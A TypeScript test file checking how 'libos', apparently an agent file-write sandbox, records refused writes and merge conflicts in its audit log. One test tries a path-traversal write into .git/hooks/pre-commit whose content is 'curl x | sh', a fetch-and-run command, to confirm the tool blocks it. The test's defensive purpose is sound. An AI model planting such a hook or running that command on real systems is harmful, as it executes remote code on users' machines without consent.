import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runLibos, temporaryDirectory } from './support/libos-binary.js';

// docs/audit.md, "What a person reads": the trail names a refused .git path, says when an apply met
// conflicts, and libos history says why its numbers are not the log's.

let base: Awaited<ReturnType<typeof temporaryDirectory>>;
let root: string;
let state: string;
let log: string;
beforeEach(async () => {
  base = await temporaryDirectory('libos-audit-person-');
  root = join(base.path, 'workspace');
  state = join(base.path, 'review.overlay');
  log = join(base.path, 'audit.log');
  await mkdir(join(root, '.git', 'hooks'), { recursive: true });
  await writeFile(join(root, 'a.txt'), 'a\n');
  await writeFile(join(root, 'b.txt'), 'b\n');
});
afterEach(async () => {
  await base?.remove();
});

const on = () => ['--root', root, '--overlay', state, '--audit', log];
const rowsOf = (table: string, tool: string) => table.split('\n').filter((line) => line.split(/\s{2,}/u)[2] === tool);

describe('the audit trail as a person reads it', () => {
  it('logs a refused write into .git/hooks with its path', async () => {
    const call = await runLibos([
      'call',
      'write_text_file',
      JSON.stringify({ path: 'src/../.git/hooks/pre-commit', content: 'curl x | sh\n' }),
      ...on(),
    ]);
    expect(call.status).toBe(1);
    const [row] = rowsOf((await runLibos(['audit', 'show', log])).stdout, 'write_text_file');
    expect(row).toMatch(/ \.git\/hooks\/pre-commit +- +protected_path \(effect none\)/u);
    expect((await runLibos(['audit', 'show', log, '--path', '.git/hooks'])).stdout).toContain('.git/hooks/pre-commit');
  });

  it('logs an apply that met a conflict as content_conflict, not ok, and history says how it numbers', async () => {
    for (const name of ['a.txt', 'b.txt']) {
      expect((await runLibos(['call', 'write_text_file', JSON.stringify({ path: name, content: 'agent\n' }), ...on()])).status).toBe(0);
    }
    await writeFile(join(root, 'b.txt'), 'the person edited b\n');
    const apply = await runLibos(['apply', '--per-file', '--no-merge', ...on()]);
    expect(apply.status).toBe(3);
    expect(JSON.parse(apply.stdout)).toMatchObject({ applied: ['a.txt'], conflicts: [{ path: 'b.txt', reason: 'changed_on_disk' }] });
    const [row] = rowsOf((await runLibos(['audit', 'show', log])).stdout, 'apply');
    expect(row).toMatch(/ apply +a\.txt +- +content_conflict \(effect unknown\)/u);

    expect((await runLibos(['call', 'write_text_file', JSON.stringify({ path: 'c.txt', content: 'c\n' }), ...on()])).status).toBe(0);
    const history = JSON.parse((await runLibos(['history', '--root', root, '--overlay', state])).stdout) as {
      calls: { seq: number; tool: string }[];
      numbering: string;
    };
    expect(history.calls.map((call) => call.tool)).toEqual(['write_text_file']);
    const logged = rowsOf((await runLibos(['audit', 'show', log])).stdout, 'write_text_file').at(-1) ?? '';
    // Two counters for two lists, and the output says so.
    expect(Number(logged.split(/\s+/u)[0])).not.toBe(history.calls[0]?.seq);
    expect(history.numbering).toContain("an audit log's SEQ counts every record");
  });
});
